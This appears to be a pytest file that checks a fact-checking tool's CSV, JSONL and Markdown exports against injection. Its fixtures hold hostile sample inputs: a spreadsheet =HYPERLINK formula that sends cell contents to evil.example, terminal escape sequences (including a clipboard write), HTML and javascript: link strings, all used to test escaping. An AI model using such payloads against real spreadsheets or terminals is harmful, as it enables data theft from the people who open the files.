"""Exports: each format reads back, and untrusted text cannot attack the reader of a file."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.fixtures_store import (
    LEDGER_ADVANCE,
    WIRE_STRIKES,
    ClaimSpec,
    build_article,
    claim_id,
    make_store,
)
from verifier.export import (
    BOM,
    COLUMNS,
    MD_COLUMNS,
    ExportError,
    as_verdict_filter,
    export,
    export_file,
    format_for_path,
    format_names,
    md_cell,
    neutralise_cell,
)
from verifier.store import ClaimFilter, Store
from verifier.store.verdicts import export_rows

HOSTILE_CONTENT = '=HYPERLINK("http://evil.example/?x="&A1,"click") | `rm` <b>x</b>\nline two'

HOSTILE = build_article(
    "hostile.txt",
    "+Evil Outlet",
    "2024-03-05",
    (
        (
            (
                "body",
                f"-The council said {HOSTILE_CONTENT}.",
            ),
        ),
    ),
    (
        ClaimSpec(
            0,
            "-The council",
            "said",
            HOSTILE_CONTENT,
            source_type="government",
        ),
    ),
)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with make_store(tmp_path) as s:
        s.add_analysed(HOSTILE)
        supported, disputed = claim_id(s, LEDGER_ADVANCE, 1), claim_id(s, WIRE_STRIKES, 1)
        s.record_rating(supported, 1, reviewer="ana")
        s.record_note(supported, "two outlets, one wire", reviewer="ana")
        s.record_rating(disputed, 4, reviewer="ben")
        s.record_note(disputed, "=1+1", reviewer="ben")
        yield s


def expected_rows(store: Store, flt: ClaimFilter | None = None) -> list[dict[str, object]]:
    return [{k: row[k] for k in COLUMNS} for row in export_rows(store, as_verdict_filter(flt))]


def run(store: Store, fmt: str, flt: ClaimFilter | None = None, **kw: Any) -> tuple[str, int]:
    out = io.StringIO(newline="")
    count = export(store, fmt, out, flt, **kw)
    return out.getvalue(), count


def unneutralise(cell: str) -> str:
    return (
        cell[1:] if cell.startswith("'") and cell[1:2] in ("=", "+", "-", "@", "\t", "\r") else cell
    )


def as_text(value: object) -> str:
    return "" if value is None else str(value)


# --- csv --------------------------------------------------------------------------------------


def test_csv_round_trips(store: Store) -> None:
    text, count = run(store, "csv")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    expected = expected_rows(store)
    assert count == len(rows) == len(expected) == 13
    assert list(rows[0]) == list(COLUMNS)
    for got, want in zip(rows, expected, strict=True):
        assert {k: unneutralise(v) for k, v in got.items()} == {
            k: as_text(v) for k, v in want.items()
        }
    rated = next(r for r in rows if r["rating"] == "1")
    assert rated["rating_name"] == "supported" and rated["reviewer"] == "ana"
    assert rated["evidence_count"] == "3"


def test_csv_neutralises_formulas(store: Store) -> None:
    text, _ = run(store, "csv")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    hostile = next(r for r in rows if r["article"] == "hostile.txt")
    assert hostile["content"].startswith("'=HYPERLINK(")
    assert hostile["source"] == "'-The council"
    assert hostile["outlet"] == "'+Evil Outlet"
    assert next(r for r in rows if r["rating"] == "4")["note"] == "'=1+1"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\nx"),  # still marked, and the lone CR a terminal would act on is a break
        ("\x1b]52;c;aGk=\x07x", "x"),
        ("\x1b]0;title\x07\u202eevil", "evil"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (3, "3"),
    ],
)
def test_neutralise_cell(value: object, cell: str) -> None:
    assert neutralise_cell(value) == cell


def test_csv_bom(store: Store) -> None:
    plain, _ = run(store, "csv")
    with_bom, _ = run(store, "csv", excel_bom=True)
    assert not plain.startswith(BOM)
    assert with_bom == BOM + plain
    assert with_bom.encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_bom_is_csv_only(store: Store) -> None:
    with pytest.raises(ExportError, match="csv"):
        run(store, "jsonl", excel_bom=True)


# --- jsonl ------------------------------------------------------------------------------------


def test_jsonl_round_trips(store: Store) -> None:
    text, count = run(store, "jsonl")
    lines = text.splitlines()
    assert count == len(lines) == 13
    rows = [json.loads(line) for line in lines]
    assert [{k: r[k] for k in COLUMNS} for r in rows] == expected_rows(store)
    assert all(list(row)[: len(COLUMNS)] == list(COLUMNS) for row in rows)
    hostile = next(r for r in rows if r["article"] == "hostile.txt")
    assert hostile["content"] == HOSTILE_CONTENT
    assert isinstance(rows[0]["evidence_count"], int)


def test_jsonl_keeps_unicode_readable_and_one_record_per_line(tmp_path: Path) -> None:
    odd = "Sa\u00efd \u2028 \u0645\u0631\u062d\u0628\u0627 \u2029 end"
    doc = build_article(
        "odd.txt",
        "Wire",
        None,
        ((("body", f"Officials said {odd}."),),),
        (ClaimSpec(0, "Officials", "said", odd),),
    )
    with make_store(tmp_path) as s:
        s.add_analysed(doc)
        out = io.StringIO()
        export(s, "jsonl", out, ClaimFilter(outlet="Wire"))
    text = out.getvalue()
    assert "Sa\u00efd" in text and "\u0645\u0631\u062d\u0628\u0627" in text
    assert len(text.splitlines()) == 1
    assert json.loads(text)["content"] == odd


# --- markdown ---------------------------------------------------------------------------------


def md_cells(line: str) -> list[str]:
    """Split a table row at pipes that are not backslash-escaped."""
    assert line.startswith("| ") and line.endswith(" |")
    cells, cell, i, body = [], "", 0, line[2:-2]
    while i < len(body):
        if body[i] == "\\":
            cell += body[i : i + 2]
            i += 2
        elif body[i : i + 3] == " | ":
            cells.append(cell)
            cell = ""
            i += 3
        elif body[i] == "|":
            raise AssertionError(f"unescaped pipe in {line!r}")
        else:
            cell += body[i]
            i += 1
    cells.append(cell)
    return cells


def md_unescape(cell: str) -> str:
    cell = cell.replace("<br>", "\n")
    cell = re.sub(r"\\(.)", r"\1", cell)
    return cell.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


def test_md_table_shape_and_escaping(store: Store) -> None:
    text, count = run(store, "md")
    lines = text.splitlines()
    assert count == len(lines) - 2 == 13
    assert md_cells(lines[0]) == list(MD_COLUMNS)
    assert set(lines[1].strip("|").split("|")) == {"---"}
    for line in lines[2:]:
        assert len(md_cells(line)) == len(MD_COLUMNS)
    hostile = next(line for line in lines if "Evil Outlet" in line)
    content = md_cells(hostile)[MD_COLUMNS.index("claim")]
    assert "<b>" not in content and "&lt;b&gt;" in content
    assert "\\`rm\\`" in content and "\\|" in content and "<br>line two" in content
    assert md_unescape(content) == HOSTILE_CONTENT


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("a | b", "a \\| b"),
        ("back\\slash|", "back\\\\slash\\|"),
        ("`code`", "\\`code\\`"),
        ("<script>&", "&lt;script&gt;&amp;"),
        ("one\r\ntwo\nthree", "one<br>two<br>three"),
        ("[link](javascript:x)", "\\[link\\](javascript:x)"),
        ("bell\x07 tab\t", "bell tab"),
        (None, ""),
        (4, "4"),
    ],
)
def test_md_cell(value: object, cell: str) -> None:
    assert md_cell(value) == cell


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40))
def test_md_cell_never_breaks_a_row(text: str) -> None:
    row = "| " + md_cell(text) + " | x |"
    assert "\n" not in row and "\r" not in row
    assert md_cells(row)[-1] == "x"


# --- filters, errors, files -------------------------------------------------------------------


@pytest.mark.parametrize("fmt", format_names())
def test_filters_are_honoured(store: Store, fmt: str) -> None:
    supported = claim_id(store, LEDGER_ADVANCE, 1)
    text, count = run(store, fmt, ClaimFilter(rating=1), org="Desk")
    assert count == 1 and supported in text
    _, unrated = run(store, fmt, ClaimFilter(rating=0), org="Desk")
    assert unrated == (0 if fmt == "claimreview" else 11)  # a ClaimReview needs a rating
    _, none = run(store, fmt, ClaimFilter(rating=5), org="Desk")
    assert none == 0


def test_unrated_filter_rows(store: Store) -> None:
    text, _ = run(store, "jsonl", ClaimFilter(rating=0))
    rows = [json.loads(line) for line in text.splitlines()]
    assert rows and all(r["rating"] is None and r["rating_name"] is None for r in rows)


def test_empty_export_still_has_a_header(tmp_path: Path) -> None:
    with Store(tmp_path / "empty.db") as s:
        text, count = run(s, "csv")
        assert count == 0 and text == ",".join(COLUMNS) + "\r\n"
        assert run(s, "jsonl") == ("", 0)
        assert run(s, "md")[0].count("\n") == 2


def test_unknown_format(store: Store) -> None:
    with pytest.raises(ExportError) as info:
        run(store, "xlsx")
    assert "\n" not in str(info.value) and "csv, jsonl, md" in str(info.value)


def test_export_file_writes_atomically(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "verdicts.csv"
    assert export_file(store, target, excel_bom=True) == 13
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data and b"\r\r\n" not in data
    assert export_file(store, tmp_path / "v.md", flt=ClaimFilter(rating=4)) == 1
    with pytest.raises(ExportError):
        export_file(store, tmp_path / "v.txt")
    with pytest.raises(ExportError):
        export_file(store, tmp_path / "missing-dir" / "v.csv")
    rows = list(export_rows(store))

    def failing_rows(store: Store, flt: object = None) -> Iterator[dict[str, Any]]:
        yield rows[0]
        raise sqlite3.OperationalError("disk I/O error")

    monkeypatch.setattr("verifier.export.formats.export_rows", failing_rows)
    with pytest.raises(ExportError):
        export_file(store, tmp_path / "v.jsonl", "md")
    assert not (tmp_path / "v.jsonl").exists()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_format_for_path() -> None:
    assert format_for_path("a/B.CSV") == "csv"
    assert format_for_path("x.ndjson") == "jsonl"
    assert format_for_path("x.md") == "md"
    assert format_for_path("x") is None
